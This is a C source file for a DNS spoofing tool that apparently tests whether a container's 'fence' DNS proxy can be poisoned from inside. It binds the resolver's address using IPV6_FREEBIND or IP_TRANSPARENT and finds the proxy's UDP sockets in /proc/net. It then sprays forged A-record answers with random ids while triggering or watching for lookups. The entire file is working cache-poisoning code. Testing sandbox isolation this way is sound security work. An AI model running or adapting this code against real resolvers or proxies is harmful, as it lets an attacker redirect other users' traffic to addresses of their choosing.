/*
 * spoof RESOLVER NAME ADDRESS SECONDS [watch]
 *
 * Tries to answer a fence's proxy in a resolver's name, from inside of the container: binds the
 * resolver's address and port (IPV6_FREEBIND, which anybody may set, or IP_TRANSPARENT, which
 * wants CAP_NET_RAW), finds the proxy's sockets to the resolver in /proc/net, and sends them
 * answers that say NAME has ADDRESS, with ids at random. Meanwhile it asks for NAME itself,
 * many times; "watch": it does not, somebody else's questions are its prey.
 *
 * Prints "accepted=N answered=N sent=N sockets=N": how many answers with ADDRESS came back, how
 * many without, how many forged ones were sent, to how many sockets. Exit status 1 when one was
 * accepted, 2 when it could not try.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ASKERS 64
#define TARGETS_MAX 64
#define BURST 3000

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

union address {
	struct sockaddr any;
	struct sockaddr_in in4;
	struct sockaddr_in6 in6;
};

static union address resolver;
static socklen_t resolver_len;
static uint8_t query[300], forged[320];
static size_t query_len, forged_len;
static long n_accepted, n_answered, n_sent, n_sockets;

static double now(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void fail(const char *what)
{
	perror(what);
	exit(2);
}

static void parse_resolver(const char *text)
{
	if (inet_pton(AF_INET6, text, &resolver.in6.sin6_addr) == 1) {
		resolver.in6.sin6_family = AF_INET6;
		resolver.in6.sin6_port = htons(53);
		resolver_len = sizeof(resolver.in6);
	} else {
		resolver.in4.sin_family = AF_INET;
		resolver.in4.sin_port = htons(53);
		resolver_len = sizeof(resolver.in4);
		if (inet_pton(AF_INET, text, &resolver.in4.sin_addr) != 1)
			fail(text);
	}
}

static void build(const char *name, const char *address)
{
	/* one A record for the name of the question */
	static const uint8_t record[12] = {0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4};
	static const uint8_t type[4] = {0, 1, 0, 1};
	uint8_t *p = query + 12;

	query[2] = 1;
	query[5] = 1;
	for (size_t n; *name; name += n + (name[n] == '.')) {
		n = strcspn(name, ".");
		*p++ = (uint8_t)n;
		p = mempcpy(p, name, n);
	}
	*p++ = 0;
	p = mempcpy(p, type, sizeof(type));
	query_len = (size_t)(p - query);
	memcpy(forged, query, query_len);
	forged[2] = 0x81;
	forged[3] = 0x80;
	forged[7] = 1;
	memcpy(forged + query_len, record, sizeof(record));
	forged_len = query_len + sizeof(record) + 4;
	if (inet_pton(AF_INET, address, forged + forged_len - 4) != 1)
		fail(address);
}

static int spoofer(void)
{
	const int one = 1;
	int fd = socket(resolver.any.sa_family, SOCK_DGRAM, 0), r;

	if (resolver.any.sa_family == AF_INET6)
		r = setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &one, sizeof(one));
	else
		r = setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof(one));
	if (r < 0)
		fail("setsockopt");
	if (bind(fd, &resolver.any, resolver_len) < 0)
		fail("bind");
	return fd;
}

/* "  0: LOCAL:PORT REMOTE:PORT …", words of the address in the host's byte order. */
static bool parse_line(const char *line, union address *ret)
{
	const bool is_ipv6 = resolver.any.sa_family == AF_INET6;
	const size_t len = is_ipv6 ? 16 : 4;
	const void *wanted = is_ipv6 ? (void *)&resolver.in6.sin6_addr : &resolver.in4.sin_addr;
	char local[40], remote[40];
	unsigned local_port, remote_port;
	uint32_t here[4] = {}, there[4] = {};

	if (sscanf(line, "%*d: %39[0-9A-F]:%x %39[0-9A-F]:%x", local, &local_port, remote,
		   &remote_port) != 4 ||
	    remote_port != 53 || strlen(local) != 2 * len || strlen(remote) != 2 * len)
		return false;
	for (size_t i = 0; i < len / 4; i++)
		if (sscanf(local + 8 * i, "%8x", &here[i]) != 1 ||
		    sscanf(remote + 8 * i, "%8x", &there[i]) != 1)
			return false;
	if (memcmp(there, wanted, len) != 0)
		return false;
	memset(ret, 0, sizeof(*ret));
	ret->any.sa_family = resolver.any.sa_family;
	if (is_ipv6) {
		ret->in6.sin6_port = htons((uint16_t)local_port);
		memcpy(&ret->in6.sin6_addr, here, 16);
	} else {
		ret->in4.sin_port = htons((uint16_t)local_port);
		memcpy(&ret->in4.sin_addr, here, 4);
	}
	return true;
}

static int find_targets(union address ret[static TARGETS_MAX])
{
	FILE *f = fopen(resolver.any.sa_family == AF_INET6 ? "/proc/net/udp6" : "/proc/net/udp",
			"re");
	char line[512];
	int n = 0;

	if (!f)
		fail("/proc/net");
	while (n < TARGETS_MAX && fgets(line, sizeof(line), f))
		n += parse_line(line, &ret[n]);
	(void)fclose(f);
	return n;
}

static void take_answers(const int *askers)
{
	uint8_t answer[1024];
	ssize_t n;

	for (int i = 0; i < ASKERS; i++) {
		while ((n = recv(askers[i], answer, sizeof(answer), MSG_DONTWAIT)) > 12) {
			if (memmem(answer, (size_t)n, forged + forged_len - 4, 4))
				n_accepted++;
			else
				n_answered++;
		}
	}
}

static void ask(const int *askers)
{
	for (int i = 0; i < ASKERS; i++) {
		query[0] = (uint8_t)rand();
		query[1] = (uint8_t)rand();
		(void)send(askers[i], query, query_len, MSG_DONTWAIT);
	}
}

int main(int argc, char **argv)
{
	union address targets[TARGETS_MAX];
	int askers[ASKERS], fd, n;
	const bool is_watching = argc > 5;
	double end;

	if (argc < 5)
		return 64;
	parse_resolver(argv[1]);
	build(argv[2], argv[3]);
	end = now() + atof(argv[4]);
	fd = spoofer();
	for (int i = 0; i < ASKERS; i++) {
		askers[i] = socket(resolver.any.sa_family, SOCK_DGRAM, 0);
		if (!is_watching && connect(askers[i], &resolver.any, resolver_len) < 0)
			fail("connect");
	}
	while (now() < end) {
		if (!is_watching)
			ask(askers);
		n = find_targets(targets);
		n_sockets += n;
		for (int k = 0; k < BURST && n > 0; k++) {
			forged[0] = (uint8_t)rand();
			forged[1] = (uint8_t)rand();
			n_sent += sendto(fd, forged, forged_len, MSG_DONTWAIT, &targets[k % n].any,
					 resolver_len) > 0;
		}
		if (!is_watching)
			take_answers(askers);
	}
	(void)printf("accepted=%ld answered=%ld sent=%ld sockets=%ld\n", n_accepted, n_answered,
		     n_sent, n_sockets);
	return n_accepted > 0;
}
